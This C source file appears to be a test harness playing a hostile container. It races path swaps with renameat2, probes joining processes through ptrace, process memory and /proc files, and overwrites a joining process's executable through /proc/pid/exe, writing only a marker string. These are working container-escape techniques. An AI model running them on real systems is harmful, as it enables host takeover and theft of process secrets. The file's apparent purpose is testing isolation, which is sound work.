/* What a hostile container does to whoever enters it, and to the paths that it shares. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

#include "guest.h"

enum { AHEAD = 16, BEHIND = 4, COMM_MAX = 32, PATH_ROOM = 64, THIEF_TRIES = 60000, NOWHERE = 4096 };
enum { TURNS = 1024 }; /* of the hunter, between two looks at how far the pids have come */

static volatile sig_atomic_t is_over;

static void on_term(int sig)
{
	(void)sig;
	is_over = 1;
}

static void say(const char *text)
{
	puts(text);
	fflush(stdout);
}

/* Each process exchanges the two names as fast as it can. */
int attack_swap(char **args)
{
	long workers = args[2] ? number(args[2]) : sysconf(_SC_NPROCESSORS_ONLN);

	for (long i = 1; i < workers; i++)
		if (fork() == 0)
			break;
	if (renameat2(AT_FDCWD, args[0], AT_FDCWD, args[1], RENAME_EXCHANGE) < 0)
		return answer("swap", -1);
	say("swapping");
	for (;;)
		(void)renameat2(AT_FDCWD, args[0], AT_FDCWD, args[1], RENAME_EXCHANGE);
}

/* ---- hunting those that join ---- */

/* Readable whatever the process is.  Ours are called "guest" or like a link to it, see below. */
static int is_stranger(int pid)
{
	char path[PATH_ROOM], name[COMM_MAX] = "";
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY);
	n = fd < 0 ? -1 : read(fd, name, sizeof(name) - 1);
	if (fd >= 0)
		close(fd);
	return n > 0 && strncmp(name, "guest", strlen("guest")) != 0;
}

static int open_of(int pid, const char *file, int flags)
{
	char path[PATH_ROOM];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, file);
	return open(path, flags | O_NONBLOCK);
}

static int opens(int pid, const char *file, int flags)
{
	int fd = open_of(pid, file, flags);

	if (fd >= 0)
		close(fd);
	return fd >= 0;
}

/* Of a process that has ended already these open, and are empty. */
static int reads(int pid, const char *file)
{
	char byte;
	int fd = open_of(pid, file, O_RDONLY);
	ssize_t n = fd < 0 ? 0 : pread(fd, &byte, 1, strcmp(file, "mem") == 0 ? NOWHERE : 0);
	int is_read = n > 0 || (n < 0 && errno == EIO);

	if (fd >= 0)
		close(fd);
	return is_read;
}

static int traces(int pid)
{
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return 0;
	(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return 1;
}

/* Nothing is at that address, which is found out after the right to look. */
static int reads_memory(int pid)
{
	char byte;
	struct iovec here = { &byte, 1 }, there = { (void *)NOWHERE, 1 };

	return process_vm_readv(pid, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT;
}

static int hunt_one(int pid, const char *what)
{
	if (strcmp(what, "ptrace") == 0)
		return traces(pid);
	if (strcmp(what, "vm") == 0)
		return reads_memory(pid);
	if (strcmp(what, "fd") == 0)
		return opens(pid, "fd/0", O_PATH) || opens(pid, "fd/3", O_PATH) ||
		       opens(pid, "fd/5", O_PATH);
	if (strcmp(what, "mem") == 0 || strcmp(what, "maps") == 0 || strcmp(what, "environ") == 0)
		return reads(pid, what);
	return opens(pid, what, O_RDONLY);
}

/* The newest pid of our namespace: the last word there. */
static int newest_pid(void)
{
	char text[128] = "", *word;
	int fd = open("/proc/loadavg", O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

	if (fd >= 0)
		close(fd);
	word = n > 0 ? strrchr(text, ' ') : NULL;
	return word ? atoi(word + 1) : 0;
}

/* Pids rise, so the next one is known before it is there, unless we were too slow for a while. What
 * was caught of a stranger is one that has not yet become the program that it joins for. */
int attack_hunt(char **args)
{
	int next = getpid() + 1, last_seen = 0;
	long seen = 0, turns = 0;

	signal(SIGTERM, on_term);
	say("hunting");
	while (!is_over) {
		if (++turns % TURNS == 0 && newest_pid() >= next)
			next = newest_pid() + 1;
		for (int pid = next > BEHIND ? next - BEHIND : 1; pid < next + AHEAD; pid++) {
			if (pid == getpid() || kill(pid, 0) < 0)
				continue;
			if (pid > last_seen && is_stranger(pid)) {
				if (seen++ == 0)
					say("met");
				last_seen = pid;
			}
			for (char **what = args; *what; what++)
				if (hunt_one(pid, *what) && is_stranger(pid)) {
					printf("caught %s of %d\n", *what, pid);
					fflush(stdout);
				}
			if (pid >= next)
				next = pid + 1;
		}
	}
	printf("seen %ld\n", seen);
	return 0;
}

/* ---- stealing the program of those that join ---- */

/* The first executable that is not ours, held by a descriptor that gives no rights yet. */
static int find_program(int *out_pid)
{
	while (!is_over) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		int fd = -1;

		while (d && fd < 0 && (e = readdir(d))) {
			char path[300];

			*out_pid = (int)number(e->d_name);
			if (*out_pid <= 0 || *out_pid == getpid() || !is_stranger(*out_pid))
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", *out_pid);
			fd = open(path, O_PATH);
		}
		if (d)
			closedir(d);
		if (fd >= 0)
			return fd;
	}
	return -1;
}

/* A program that runs is busy (ETXTBSY), so the write is tried on until it runs no more. */
static int steal_one(void)
{
	const struct timespec moment = { .tv_nsec = 1000000 };
	char path[PATH_ROOM];
	int pid, fd = -1, held = find_program(&pid);

	if (held < 0)
		return 0;
	say("held");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	for (int i = 0; i < THIEF_TRIES && !is_over; i++) {
		fd = open(path, O_WRONLY);
		if (fd >= 0 || errno != ETXTBSY)
			break;
		nanosleep(&moment, NULL);
	}
	answer("steal", fd < 0 ? fd : pwrite(fd, "oops", 4, 0));
	fflush(stdout);
	close(held);
	if (fd >= 0)
		close(fd);
	return 0;
}

int attack_steal(char **args)
{
	(void)args;
	signal(SIGTERM, on_term);
	say("stealing");
	while (!is_over)
		steal_one();
	return 0;
}
